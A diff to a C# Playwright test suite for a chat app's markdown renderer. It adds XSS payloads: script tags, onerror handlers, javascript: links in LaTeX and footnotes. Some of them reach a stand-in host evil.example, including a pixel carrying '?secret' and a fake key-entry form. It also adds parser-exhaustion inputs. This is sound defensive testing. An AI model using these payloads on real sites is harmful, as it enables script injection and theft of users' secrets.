@@ -2,7 +2,7 @@ using static Microsoft.Playwright.Assertions;
 
 namespace LambdaChat.FunctionalTests.Page;
 
-/// <summary>Text of a model is hostile: whatever it says stays text, or becomes one of the few elements that the page makes itself.</summary>
+/// <summary>Model output is untrusted: it becomes text or one of the elements that the page creates, and never HTML.</summary>
 public sealed class HostileTextTests(PageFixture fixture)
 {
     private static readonly string[] Attacks =
@@ -46,10 +46,20 @@ public sealed class HostileTextTests(PageFixture fixture)
         "\0<scr\0ipt>window.hacked=1</script>",
         "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
         "<form action=https://evil.example><input name=key><button>Enter your key</button></form>",
+        "$\\href{javascript:window.hacked=1}{x}$",
+        "$\\url{javascript:window.hacked=1}$ $\\includegraphics{https://evil.example/pixel.png?secret}$",
+        "$\\htmlStyle{background:url(https://evil.example/)}{x}$ $\\style{color:red}{x}$ $\\class{empty}{x}$ $\\id{sidebar}{x}$ $\\data{key=1}{x}$",
+        "$$\\text{<img src=x onerror=window.hacked=1>}$$",
+        "$\\color{url(https://evil.example/)}{x}$ $\\label{a}\\ref{a}$ $\\cancelto{1}{x}$",
+        "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\text}{\\href{https://evil.example}}\\text{x}$",
+        "```\"onclick=window.hacked=1 <script>\nlet a = '<script>window.hacked = 1</script>';\n```",
+        "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```js<b>\nx\n```",
+        "a[^1] b[^__proto__]\n\n[^1]: <script>window.hacked=1</script>\n[^__proto__]: [x](javascript:window.hacked=1)",
+        "www.evil.example/<script> mailto:x@evil.example javascript:x@evil.example",
         "<object data=https://evil.example></object><embed src=https://evil.example><link rel=stylesheet href=https://evil.example>",
     ];
 
-    // A parser whose time is a square takes minutes for these, and one that backtracks for ever. Ours takes some hundredths of a second.
+    // Inputs that take minutes in a quadratic parser, and longer in one that backtracks.
     private static readonly string[] Bombs =
     [
         Repeat("*", 200_000),
@@ -67,9 +77,29 @@ public sealed class HostileTextTests(PageFixture fixture)
         Repeat("|", 60_000) + "\n" + Repeat("|-", 60_000),
         Repeat("_a", 100_000),
         Repeat("https://a", 25_000),
+        Repeat("www.a@", 30_000),
+        Repeat("\\(a", 60_000) + Repeat("\\[a", 60_000),
+        "$$" + Repeat("{", 4_000) + "a" + Repeat("}", 900) + "$$",
+        "$$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{xxxx}\\a\\a\\a$$",
+        Repeat("$" + Repeat("\\frac{a}{", 150) + "a" + Repeat("}", 150) + "$ ", 50),
+        "```js\n" + Repeat("const a = `${", 20_000) + "\n```",
+        "```html\n" + Repeat("<a", 60_000) + "\n```",
+        Repeat("- a\n  ", 20_000),
+        Repeat("https://a/b" + Repeat(")", 3_900) + " ", 500),
     ];
 
-    private static readonly TimeSpan Patience = TimeSpan.FromMinutes(1); // A bomb that goes off fails the test, and does not hang the run.
+    // Inputs with words that are not shown: info strings, definitions, and blocks that are nested more than 100 levels deep.
+    private static readonly string[] HiddenBombs =
+    [
+        "````" + Repeat("x", 100_000) + "\n" + Repeat("`", 100_000),
+        Repeat("[^a]", 30_000) + "\n\n[^a]: a",
+        Repeat("[^a]", 20_000) + "\n\n[^a]: a",
+        Repeat("[a]: /a\n", 12_000),
+        Repeat("> - ", 20_000) + "a",
+        Repeat("[a]", 30_000) + "\n\n[a]: /a",
+    ];
+
+    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(20); // Per input; a slow parser fails the test instead of blocking the run.
 
     [Fact]
     public async Task Reply_OfAttacks_StaysText()
@@ -110,26 +140,33 @@ public sealed class HostileTextTests(PageFixture fixture)
 
         foreach (var bomb in Bombs)
         {
-            var words = await page.Page.EvaluateAsync<string>(
-                """
-                async (text) => {
-                  const { renderMarkdown } = await import("/assets/render.js");
-                  const drawn = document.createElement("div");
-                  renderMarkdown(drawn, text);
-                  return drawn.textContent.replace(/[^a-z]/g, "");
-                }
-                """,
-                bomb).WaitAsync(Patience, TestContext.Current.CancellationToken);
-            Assert.Equal(string.Concat(bomb.Where(char.IsLetter)), words);
+            Assert.Equal(string.Concat(bomb.Where(char.IsLetter)), await DrawAsync(page, bomb));
+        }
+
+        foreach (var bomb in HiddenBombs)
+        {
+            Assert.NotNull(await DrawAsync(page, bomb));
         }
     }
 
+    private static Task<string> DrawAsync(ChatPage page, string text) => page.Page.EvaluateAsync<string>(
+        """
+        async (text) => {
+          const { renderMarkdown } = await import("/assets/render.js");
+          const drawn = document.createElement("div");
+          renderMarkdown(drawn, text);
+          return drawn.textContent.replace(/[^a-z]/g, "");
+        }
+        """,
+        text).WaitAsync(Timeout, TestContext.Current.CancellationToken);
+
     private static string Repeat(string text, int times) => string.Concat(Enumerable.Repeat(text, times));
 
-    // Elements and attributes that the page does not make for a message.
+    // Elements and attributes that the page never creates in a message.
     private static Task<string> FindForbiddenAsync(ChatPage page) => page.Page.EvaluateAsync<string>("""
         () => {
-          const tags = "article,details,summary,div,p,h3,h4,h5,h6,ul,ol,li,blockquote,hr,pre,code,table,thead,tbody,tr,th,td,a,em,strong,del,span,button,svg,path,input".split(",");
+          const tags = ("article,details,summary,div,p,h3,h4,h5,h6,ul,ol,li,blockquote,hr,pre,code,table,thead,tbody,tr,th,td,a,em,strong,del,span,button,svg,path,input,br,sup,section,"
+            + "math,semantics,annotation,mrow,mi,mn,mo,ms,mtext,mspace,mfrac,msqrt,mroot,mstyle,mpadded,mphantom,msub,msup,msubsup,munder,mover,munderover,mtable,mtr,mtd,menclose").split(",");
           const found = [];
           for (const element of document.querySelectorAll("article.assistant, article.assistant *")) {
             if (!tags.includes(element.localName)) found.push(element.localName);
